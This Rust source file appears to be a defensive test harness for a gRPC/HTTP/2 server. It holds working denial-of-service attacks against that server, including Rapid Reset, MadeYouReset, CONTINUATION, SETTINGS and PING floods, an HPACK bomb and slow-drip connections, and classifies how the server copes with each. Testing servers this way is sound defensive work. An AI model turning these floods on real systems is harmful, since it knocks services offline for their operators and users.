//! What hostile peers do. Each attack says how it ended.

use std::net::SocketAddr;
use std::time::Duration;

use super::wire::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, Manners, PING, PREFACE, Peer, RST_STREAM, SETTINGS,
    Seen, field, frame, stream, string,
};

/// How often a slow peer sends its next byte.
const DRIP: Duration = Duration::from_millis(500);

/// Whom to attack, and as whom.
#[derive(Clone, Debug)]
pub(super) struct Target {
    pub(super) address: SocketAddr,
    /// A unary method, by its path.
    pub(super) path: String,
    /// An attacker with a key is the worse one: calls without are refused before they cost anything.
    pub(super) key: String,
}

/// How an attack ended.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum End {
    /// The server closed the connection, with the error code of its GOAWAY if it sent one.
    Closed(Option<u32>),
    /// The server ended the calls, and goes on to serve the connection.
    Refused,
    /// The server bears it.
    Borne,
}

impl Target {
    /// The metadata of a call, as HPACK.
    fn call(&self) -> Vec<u8> {
        [
            field(":method", "POST"),
            field(":scheme", "http"),
            field(":path", &self.path),
            field(":authority", "herald"),
            field("content-type", "application/grpc"),
            field("te", "trailers"),
            field("x-api-key", &self.key),
        ]
        .concat()
    }

    /// Opens a call and leaves its request open.
    fn open(&self, number: u32) -> Vec<u8> {
        frame(HEADERS, END_HEADERS, stream(number), &self.call())
    }
}

/// A peer that does nothing else sends this until it is stopped or done, and then asks whether all was taken.
async fn flood(peer: Peer, pieces: impl Iterator<Item = Vec<u8>>) -> End {
    let mut pieces = pieces.peekable();
    while pieces.peek().is_some() {
        let batch: Vec<u8> = pieces.by_ref().take(64).flatten().collect();
        if !peer.send(&batch).await {
            break;
        }
    }
    let is_taken = peer.is_taken().await;
    end(&peer, is_taken)
}

fn end(peer: &Peer, is_borne: bool) -> End {
    let seen = peer.seen();
    match (seen.is_closed, is_borne) {
        (true, _) => End::Closed(seen.go_away),
        (false, true) => End::Borne,
        (false, false) => panic!("the server neither goes on nor hangs up: {seen:?}"),
    }
}

/// CVE-2023-44487: calls that are canceled at once do not count as open.
pub(super) async fn rapid_reset(target: Target) -> End {
    let peer = Peer::greet(target.address, Manners::Good, &[]).await;
    let cancel = 8_u32.to_be_bytes();
    flood(peer, (0..20_000).map(|n| [target.open(n), frame(RST_STREAM, 0, stream(n), &cancel)].concat()))
        .await
}

/// CVE-2025-8671: the same, but the server is brought to reset, by a body longer than was said.
pub(super) async fn made_you_reset(target: Target) -> End {
    let peer = Peer::greet(target.address, Manners::Good, &[]).await;
    let headers = [target.call(), field("content-length", "1")].concat();
    let call = |n| [frame(HEADERS, END_HEADERS, stream(n), &headers), frame(DATA, 0, stream(n), &[0; 2])];
    flood(peer, (0..6_000).map(|n| call(n).concat())).await
}

/// As many open calls as one likes.
pub(super) async fn ten_thousand_streams(target: Target) -> End {
    let peer = Peer::greet(target.address, Manners::Good, &[]).await;
    flood(peer, (0..10_000).map(|n| target.open(n))).await
}

/// CVE-2024-27316: headers without an end.
pub(super) async fn continuation_flood(target: Target) -> End {
    let peer = Peer::greet(target.address, Manners::Good, &[]).await;
    let more = field("x-more", &"a".repeat(1_000));
    let begin = frame(HEADERS, 0, stream(0), &target.call());
    let pieces = (0..20_000).map(|_| frame(CONTINUATION, 0, stream(0), &more));
    flood(peer, std::iter::once(begin).chain(pieces)).await
}

/// CVE-2019-9515: each asks for an acknowledgement.
pub(super) async fn settings_flood(target: Target) -> End {
    let peer = Peer::greet(target.address, Manners::Good, &[]).await;
    flood(peer, (0..100_000).map(|_| frame(SETTINGS, 0, 0, &[]))).await
}

/// CVE-2019-9512.
pub(super) async fn ping_flood(target: Target) -> End {
    let peer = Peer::greet(target.address, Manners::Good, &[]).await;
    flood(peer, (0..100_000).map(|_| frame(PING, 0, 0, &[7; 8]))).await
}

/// CVE-2019-9518: frames that say nothing.
pub(super) async fn empty_data_flood(target: Target) -> End {
    let peer = Peer::greet(target.address, Manners::Good, &[]).await;
    let pieces = (0..100_000).map(|_| frame(DATA, 0, stream(0), &[]));
    flood(peer, std::iter::once(target.open(0)).chain(pieces)).await
}

/// CVE-2016-6581: a large field is put into the table once, and then named 10,000 times by one byte each.
pub(super) async fn hpack_bomb(target: Target) -> End {
    let peer = Peer::greet(target.address, Manners::Good, &[]).await;
    // RFC 7541 sections 6.2.1 and 6.1; 62 is the first place of the dynamic table.
    let remembered = [vec![0x40], string("x-large"), string(&"a".repeat(4_000))].concat();
    let bomb = [target.call(), remembered, vec![0x80 | 62; 10_000]].concat();
    let _ = peer.send(&frame(HEADERS, END_HEADERS | END_STREAM, stream(0), &bomb)).await;
    ended_or_closed(&peer).await
}

/// Metadata of 1 MB, in a row of frames.
pub(super) async fn large_metadata(target: Target) -> End {
    let peer = Peer::greet(target.address, Manners::Good, &[]).await;
    let metadata = [target.call(), field("x-large", &"a".repeat(1_000_000))].concat();
    let mut pieces = metadata.chunks(16_384).peekable();
    let mut kind = HEADERS;
    while let Some(piece) = pieces.next() {
        let flags = if pieces.peek().is_none() { END_HEADERS } else { 0 };
        if !peer.send(&frame(kind, flags, stream(0), piece)).await {
            break;
        }
        kind = CONTINUATION;
    }
    ended_or_closed(&peer).await
}

/// Waits until the one call of the attack, or the connection, has ended.
async fn ended_or_closed(peer: &Peer) -> End {
    peer.until(|seen| seen.is_closed || seen.resets + seen.answered > 0).await;
    let seen = peer.seen();
    match (seen.is_closed, seen.resets + seen.answered) {
        (true, _) => End::Closed(seen.go_away),
        (false, 0) => End::Borne,
        (false, _) => End::Refused,
    }
}

/// A connection, and not a byte.
pub(super) async fn silent_connection(target: Target) -> End {
    let peer = Peer::connect(target.address, Manners::Silent, &[]).await;
    ended_or_closed(&peer).await
}

/// Half of the bytes that every connection begins with.
pub(super) async fn half_preface(target: Target) -> End {
    let peer = Peer::connect(target.address, Manners::Silent, &PREFACE[..12]).await;
    ended_or_closed(&peer).await
}

/// A connection that is begun well, and left.
pub(super) async fn silence_after_the_preface(target: Target) -> End {
    let peer = Peer::greet(target.address, Manners::Silent, &[]).await;
    ended_or_closed(&peer).await
}

/// Headers that come in, a field at a time, without an end.
pub(super) async fn slow_headers(target: Target) -> End {
    let peer = Peer::greet(target.address, Manners::Silent, &[]).await;
    // The length says more than ever comes, so it is one frame for the server.
    let headers = frame(HEADERS, END_HEADERS, stream(0), &[target.call(), vec![0; 1_000]].concat());
    drip(&peer, &headers).await;
    ended_or_closed(&peer).await
}

/// Headers that were begun, and left.
pub(super) async fn headers_without_an_end(target: Target) -> End {
    let peer = Peer::greet(target.address, Manners::Silent, &[]).await;
    let _ = peer.send(&frame(HEADERS, 0, stream(0), &target.call())).await;
    ended_or_closed(&peer).await
}

/// A request that comes in, a byte at a time, on a connection that is otherwise well behaved.
pub(super) async fn slow_body(target: Target) -> End {
    let peer = Peer::greet(target.address, Manners::Good, &[]).await;
    let _ = peer.send(&target.open(0)).await;
    let body: Vec<u8> = [0, 0, 0, 4, 0].into_iter().chain([0; 1_024]).collect();
    let pieces: Vec<u8> = body.iter().flat_map(|byte| frame(DATA, 0, stream(0), &[*byte])).collect();
    drip_by(&peer, &pieces, 10).await;
    ended_or_closed(&peer).await
}

async fn drip(peer: &Peer, bytes: &[u8]) {
    drip_by(peer, bytes, 1).await;
}

/// Sends piece by piece, until the limit or until the server has had enough.
async fn drip_by(peer: &Peer, bytes: &[u8], size: usize) {
    for piece in bytes.chunks(size) {
        let has_enough = |seen: &Seen| seen.is_closed || seen.resets + seen.answered > 0;
        if peer.is_late() || !peer.send(piece).await || peer.within(DRIP, has_enough).await {
            return;
        }
    }
}

/// Calls whose answers are never taken: the window for them is 0 and stays so.
pub(super) async fn zero_window(target: Target) -> End {
    const CALLS: u32 = 100;
    // RFC 9113 section 6.5.2: SETTINGS_INITIAL_WINDOW_SIZE.
    let peer = Peer::greet(target.address, Manners::Good, &[0, 4, 0, 0, 0, 0]).await;
    for number in 0..CALLS {
        let empty_message = frame(DATA, END_STREAM, stream(number), &[0; 5]);
        let _ = peer.send(&[target.open(number), empty_message].concat()).await;
    }
    peer.until(|seen| seen.is_closed || seen.resets + seen.answered >= CALLS as usize).await;
    let seen = peer.seen();
    match (seen.is_closed, seen.resets + seen.answered >= CALLS as usize) {
        (true, _) => End::Closed(seen.go_away),
        (false, true) => End::Refused,
        (false, false) => End::Borne,
    }
}
